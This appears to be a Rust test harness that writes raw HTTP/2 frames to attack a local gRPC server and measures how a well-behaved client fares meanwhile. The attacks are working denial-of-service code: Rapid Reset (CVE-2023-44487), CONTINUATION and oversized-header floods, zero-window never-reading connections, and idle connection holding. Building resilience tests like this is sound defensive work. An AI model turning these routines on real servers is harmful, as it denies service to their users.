//! Misbehaving HTTP/2 clients, written frame by frame (RFC 9113) so that
//! they can break the rules a real client library would keep: resetting
//! every stream at once, endless CONTINUATION frames, oversized header
//! lists, never reading, or connecting and then doing nothing.

use std::{
    net::{IpAddr, SocketAddr},
    time::{Duration, Instant},
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{
        TcpSocket,
        tcp::{OwnedReadHalf, OwnedWriteHalf},
    },
};

/// Where attackers connect from: one peer.
const LOOPBACK: IpAddr = IpAddr::V4(std::net::Ipv4Addr::LOCALHOST);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const CONTINUATION: u8 = 0x9;

const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// RST_STREAM's CANCEL error code.
const CANCEL: u32 = 0x8;

/// The largest frame payload a peer must accept without asking.
const MAX_FRAME: usize = 16 * 1024;

/// One frame: its 9-byte header, then `payload`.
fn frame(kind: u8, flags: u8, stream_id: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame fits");
    let mut frame = Vec::with_capacity(9 + payload.len());
    frame.extend_from_slice(&length.to_be_bytes()[1..]);
    frame.push(kind);
    frame.push(flags);
    frame.extend_from_slice(&(stream_id & 0x7fff_ffff).to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// An HPACK integer with an `prefix_bits`-bit prefix after `flags`.
fn hpack_integer(out: &mut Vec<u8>, flags: u8, prefix_bits: u32, mut value: usize) {
    let limit = (1usize << prefix_bits) - 1;
    if value < limit {
        out.push(flags | value as u8);
        return;
    }
    out.push(flags | limit as u8);
    value -= limit;
    while value >= 128 {
        out.push((value % 128) as u8 | 0x80);
        value /= 128;
    }
    out.push(value as u8);
}

/// A header as an HPACK literal, not indexed, with a literal name.
fn hpack_literal(out: &mut Vec<u8>, name: &str, value: &str) {
    out.push(0x00);
    hpack_integer(out, 0, 7, name.len());
    out.extend_from_slice(name.as_bytes());
    hpack_integer(out, 0, 7, value.len());
    out.extend_from_slice(value.as_bytes());
}

/// The header block of a gRPC call of `path`.
fn request_headers(path: &str) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ] {
        hpack_literal(&mut block, name, value);
    }
    block
}

/// What an attack did, and what the server did to it.
#[derive(Debug, Default, Clone, Copy)]
pub struct Attack {
    /// Connections the attacker opened.
    pub connections: u64,
    /// Streams it opened (and, for rapid reset, reset).
    pub streams: u64,
    /// Bytes it managed to write.
    pub bytes: u64,
    /// Connections the server closed on it.
    pub closed_by_server: u64,
}

impl Attack {
    /// The figures on one line, for an attacker in another process.
    pub fn to_line(&self) -> String {
        format!(
            "{} {} {} {}",
            self.connections, self.streams, self.bytes, self.closed_by_server
        )
    }

    /// Reads [`Attack::to_line`]'s output.
    pub fn from_line(line: &str) -> Option<Attack> {
        let figures: Vec<u64> = line
            .split_whitespace()
            .map(str::parse)
            .collect::<Result<_, _>>()
            .ok()?;
        let [connections, streams, bytes, closed_by_server] = figures[..] else {
            return None;
        };
        Some(Attack {
            connections,
            streams,
            bytes,
            closed_by_server,
        })
    }
}

/// A connection past the preface and an empty SETTINGS frame. When asked
/// to, it reads (and drops) whatever the server sends, in a task of its
/// own, so that only the attack itself can stall it; when not, nothing
/// ever reads it.
pub struct Connection {
    writer: OwnedWriteHalf,
    unread: Option<OwnedReadHalf>,
}

impl Connection {
    async fn open(
        address: SocketAddr,
        reading: bool,
        settings: &[u8],
    ) -> std::io::Result<Connection> {
        Connection::open_from(LOOPBACK, address, reading, settings).await
    }

    /// As [`Connection::open`], from the loopback address `source`.
    async fn open_from(
        source: IpAddr,
        address: SocketAddr,
        reading: bool,
        settings: &[u8],
    ) -> std::io::Result<Connection> {
        let socket = TcpSocket::new_v4()?;
        socket.bind(SocketAddr::new(source, 0))?;
        let stream = socket.connect(address).await?;
        stream.set_nodelay(true)?;
        let (mut reader, mut writer) = stream.into_split();
        let mut hello = PREFACE.to_vec();
        hello.extend(frame(SETTINGS, 0, 0, settings));
        writer.write_all(&hello).await?;
        let unread = if reading {
            tokio::spawn(async move {
                let mut sink = vec![0; 64 * 1024];
                while matches!(reader.read(&mut sink).await, Ok(read) if read > 0) {}
            });
            None
        } else {
            Some(reader)
        };
        Ok(Connection { writer, unread })
    }
}

/// Runs `attack` on connection after connection until `until`, each
/// connection's run ending when the server closes it (or the attack ends
/// it by returning).
async fn on_each_connection<Run, Ran>(
    address: SocketAddr,
    until: Instant,
    mut attack: Run,
) -> Attack
where
    Run: FnMut(Connection) -> Ran,
    Ran: Future<Output = Attack>,
{
    let mut total = Attack::default();
    while Instant::now() < until {
        let Ok(connection) = Connection::open(address, true, &[]).await else {
            tokio::time::sleep(Duration::from_millis(1)).await;
            continue;
        };
        let ran = attack(connection).await;
        total.connections += 1;
        total.streams += ran.streams;
        total.bytes += ran.bytes;
        total.closed_by_server += ran.closed_by_server;
    }
    total
}

/// Writes `batches` until the server closes the connection, `until`
/// passes or there are no more; what got through.
async fn send_batches(
    connection: &mut Connection,
    until: Instant,
    mut batches: impl Iterator<Item = (u64, Vec<u8>)>,
) -> Attack {
    let mut attack = Attack::default();
    while Instant::now() < until {
        let Some((streams, batch)) = batches.next() else {
            break;
        };
        if connection.writer.write_all(&batch).await.is_err() {
            attack.closed_by_server = 1;
            break;
        }
        attack.streams += streams;
        attack.bytes += batch.len() as u64;
    }
    attack
}

/// CVE-2023-44487: streams opened and reset at once, a hundred per write,
/// on connection after connection until `until`.
pub async fn rapid_reset(address: SocketAddr, until: Instant) -> Attack {
    let headers = request_headers("/plinth.auth.v1.AuthService/WhoAmI");
    on_each_connection(address, until, |mut connection| {
        let headers = headers.clone();
        async move {
            let batches = (0..(1u32 << 20)).map(move |batch| {
                let mut frames = Vec::new();
                for index in 0..100 {
                    let stream_id = 1 + 2 * (batch * 100 + index);
                    frames.extend(frame(HEADERS, END_HEADERS, stream_id, &headers));
                    frames.extend(frame(RST_STREAM, 0, stream_id, &CANCEL.to_be_bytes()));
                }
                (100, frames)
            });
            send_batches(&mut connection, until, batches).await
        }
    })
    .await
}

/// A header block that never ends: HEADERS without END_HEADERS, then full
/// CONTINUATION frames of junk headers, up to 64 MiB per connection.
pub async fn continuation_flood(address: SocketAddr, until: Instant) -> Attack {
    let headers = request_headers("/plinth.auth.v1.AuthService/WhoAmI");
    let mut junk = Vec::new();
    while junk.len() < MAX_FRAME - 300 {
        hpack_literal(&mut junk, "x-flood", &"a".repeat(200));
    }
    on_each_connection(address, until, |mut connection| {
        let opening = frame(HEADERS, 0, 1, &headers);
        let continuation = frame(CONTINUATION, 0, 1, &junk);
        async move {
            let batches =
                std::iter::once((1, opening)).chain(std::iter::repeat_n((0, continuation), 4096));
            send_batches(&mut connection, until, batches).await
        }
    })
    .await
}

/// Requests whose header list is far past the server's limit (64 KiB of
/// headers each, over HEADERS and CONTINUATION frames), stream after
/// stream.
pub async fn header_flood(address: SocketAddr, until: Instant) -> Attack {
    let mut block = request_headers("/plinth.auth.v1.AuthService/WhoAmI");
    for index in 0..256 {
        hpack_literal(&mut block, &format!("x-flood-{index}"), &"b".repeat(240));
    }
    on_each_connection(address, until, |mut connection| {
        let block = block.clone();
        async move {
            let batches = (0..(1u32 << 20)).map(move |number| {
                let stream_id = 1 + 2 * number;
                let mut chunks = block.chunks(MAX_FRAME).peekable();
                let mut frames = Vec::new();
                let mut kind = HEADERS;
                while let Some(chunk) = chunks.next() {
                    let last = chunks.peek().is_none();
                    let flags = if last { END_HEADERS | END_STREAM } else { 0 };
                    frames.extend(frame(kind, flags, stream_id, chunk));
                    kind = CONTINUATION;
                }
                (1, frames)
            });
            send_batches(&mut connection, until, batches).await
        }
    })
    .await
}

/// Opens `connections` connections that allow the server no flow-control
/// window and never read, each with `streams` reflection calls whose
/// answers (a file descriptor and its imports) can never be sent. They are
/// held until the returned handles drop, or the server closes them.
pub async fn never_reading(
    address: SocketAddr,
    connections: usize,
    streams: u32,
) -> std::io::Result<Vec<Connection>> {
    // SETTINGS_INITIAL_WINDOW_SIZE (0x4) = 0.
    let no_window = [0x00, 0x04, 0, 0, 0, 0];
    let headers = request_headers("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo");
    let symbol = b"plinth.auth.v1.AuthService";
    // ServerReflectionRequest { file_containing_symbol (4): symbol }.
    let mut message = vec![0x22, symbol.len() as u8];
    message.extend_from_slice(symbol);
    let mut body = vec![0];
    body.extend_from_slice(&(message.len() as u32).to_be_bytes());
    body.extend(message);
    let mut held = Vec::with_capacity(connections);
    for _ in 0..connections {
        let mut connection = Connection::open(address, false, &no_window).await?;
        let mut frames = Vec::new();
        for number in 0..streams {
            let stream_id = 1 + 2 * number;
            frames.extend(frame(HEADERS, END_HEADERS, stream_id, &headers));
            frames.extend(frame(DATA, END_STREAM, stream_id, &body));
        }
        connection.writer.write_all(&frames).await?;
        held.push(connection);
    }
    Ok(held)
}

/// Opens `count` connections that send the preface and SETTINGS, then
/// nothing, and read nothing; held until the returned handles drop. They
/// come in turn from `peers` loopback addresses (127.0.1.1 onwards), as
/// from that many clients.
pub async fn idle(
    address: SocketAddr,
    count: usize,
    peers: u8,
) -> std::io::Result<Vec<Connection>> {
    let mut held = Vec::with_capacity(count);
    for index in 0..count {
        let source = IpAddr::from([127, 0, 1, 1 + (index % usize::from(peers.max(1))) as u8]);
        held.push(Connection::open_from(source, address, false, &[]).await?);
    }
    Ok(held)
}

/// What a well-behaved client saw: health checks one after another on a
/// connection of its own.
#[derive(Debug, Clone, Copy)]
pub struct Served {
    pub calls: u64,
    pub errors: u64,
    pub p50: Duration,
    pub p99: Duration,
}

/// Checks health on `address` one call after another for `duration`.
pub async fn well_behaved(address: SocketAddr, duration: Duration) -> Served {
    let channel = tonic::transport::Endpoint::from_shared(format!("http://{address}"))
        .expect("endpoint")
        .tcp_nodelay(true)
        .timeout(Duration::from_secs(5))
        .connect()
        .await
        .expect("the well-behaved client connects");
    let mut health = tonic_health::pb::health_client::HealthClient::new(channel);
    let mut latencies =
        hdrhistogram::Histogram::<u64>::new_with_bounds(1, 60_000_000, 3).expect("bounds");
    let mut errors = 0;
    let until = Instant::now() + duration;
    while Instant::now() < until {
        let started = Instant::now();
        match health
            .check(tonic_health::pb::HealthCheckRequest::default())
            .await
        {
            Ok(_) => latencies.saturating_record(started.elapsed().as_micros() as u64),
            Err(_) => errors += 1,
        }
    }
    Served {
        calls: latencies.len(),
        errors,
        p50: Duration::from_micros(latencies.value_at_quantile(0.5)),
        p99: Duration::from_micros(latencies.value_at_quantile(0.99)),
    }
}

/// Waits up to `limit` for the server to close each of `connections`
/// (reading, at last, what they never read); how many it closed.
pub async fn wait_closed(connections: Vec<Connection>, limit: Duration) -> usize {
    let until = tokio::time::Instant::now() + limit;
    let mut closed = 0;
    for connection in connections {
        let Some(mut reader) = connection.unread else {
            continue;
        };
        let mut sink = vec![0; 64 * 1024];
        let ended = tokio::time::timeout_at(until, async {
            loop {
                match reader.read(&mut sink).await {
                    Ok(0) | Err(_) => return,
                    Ok(_) => {}
                }
            }
        })
        .await;
        closed += usize::from(ended.is_ok());
    }
    closed
}
